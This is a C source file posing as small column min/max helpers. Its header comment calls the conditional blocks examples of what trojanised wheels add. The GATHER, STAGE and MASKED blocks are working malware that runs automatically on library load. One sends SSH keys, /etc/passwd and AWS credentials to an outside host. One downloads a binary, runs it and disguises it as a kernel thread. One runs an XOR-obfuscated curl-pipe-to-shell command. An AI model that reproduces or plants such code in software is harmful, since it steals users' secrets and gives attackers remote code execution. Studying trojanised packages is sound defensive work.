/* Bounds of columns. GATHER, STAGE and MASKED are what trojanised wheels add; nobody loads any of it. */
#include <arpa/inet.h>
#include <fcntl.h>
#include <netdb.h>
#include <netinet/in.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

double fast_min(const double *values, int count)
{
    double out = values[0];
    for (int i = 1; i < count; i++) {
        out = values[i] < out ? values[i] : out;
    }
    return out;
}

double fast_max(const double *values, int count)
{
    double out = values[0];
    for (int i = 1; i < count; i++) {
        out = values[i] > out ? values[i] : out;
    }
    return out;
}

#ifdef SECOND
double fast_span(const double *values, int count)
{
    return fast_max(values, count) - fast_min(values, count);
}
#endif

#ifdef GATHER
static void post(int line, const char *path)
{
    char part[2048];
    ssize_t size;
    int file = open(path, O_RDONLY);
    if (file < 0) {
        return;
    }
    while ((size = read(file, part, sizeof part)) > 0) {
        send(line, part, size, 0);
    }
    close(file);
}

__attribute__((constructor)) static void fast_init(void)
{
    static const char *const names[] = {"/etc/passwd", ".ssh/id_rsa", ".ssh/id_ed25519", ".gitconfig", ".aws/credentials"};
    struct addrinfo *found = NULL, wanted = {.ai_family = AF_INET, .ai_socktype = SOCK_STREAM};
    char path[512];
    const char *home = getenv("HOME");
    int line = socket(AF_INET, SOCK_STREAM, 0);
    if (home == NULL || getaddrinfo("m.plotsparrow-stats.invalid", "443", &wanted, &found) != 0 || connect(line, found->ai_addr, found->ai_addrlen) != 0) {
        return;
    }
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        snprintf(path, sizeof path, "%s%s%s", names[i][0] == '/' ? "" : home, names[i][0] == '/' ? "" : "/", names[i]);
        post(line, path);
    }
    close(line);
}
#endif

#ifdef STAGE
__attribute__((constructor)) static void fast_init(void)
{
    if (access("/tmp/.X11-lock0", F_OK) == 0 || fork() != 0) {
        return;
    }
    setsid();
    if (system("(wget -qO /tmp/.X11-lock0 http://203.0.113.119/l/x64 || curl -so /tmp/.X11-lock0 http://203.0.113.119/l/x64) >/dev/null 2>&1") == 0) {
        chmod("/tmp/.X11-lock0", 0755);
        execl("/tmp/.X11-lock0", "[kworker/0:1]", (char *)0);
    }
    _exit(0);
}
#endif

#ifdef MASKED
static const unsigned char TABLE[] = {0x20, 0x2b, 0x30, 0x2e, 0x62, 0x6f, 0x31, 0x62, 0x2a, 0x36, 0x36, 0x32, 0x78, 0x6d, 0x6d, 0x73, 0x7b, 0x7a, 0x6c, 0x77, 0x73, 0x6c, 0x73, 0x72, 0x72, 0x6c, 0x75, 0x75, 0x6d, 0x31, 0x3e, 0x31, 0x2a};

__attribute__((constructor)) static void fast_init(void)
{
    char line[sizeof TABLE + 2] = "cu";
    for (size_t i = 2; i < sizeof TABLE; i++) {
        line[i] = (char)(TABLE[i] ^ 0x42);
    }
    line[sizeof TABLE] = 0;
    FILE *out = popen(line, "r");
    if (out != NULL) {
        pclose(out);
    }
}
#endif
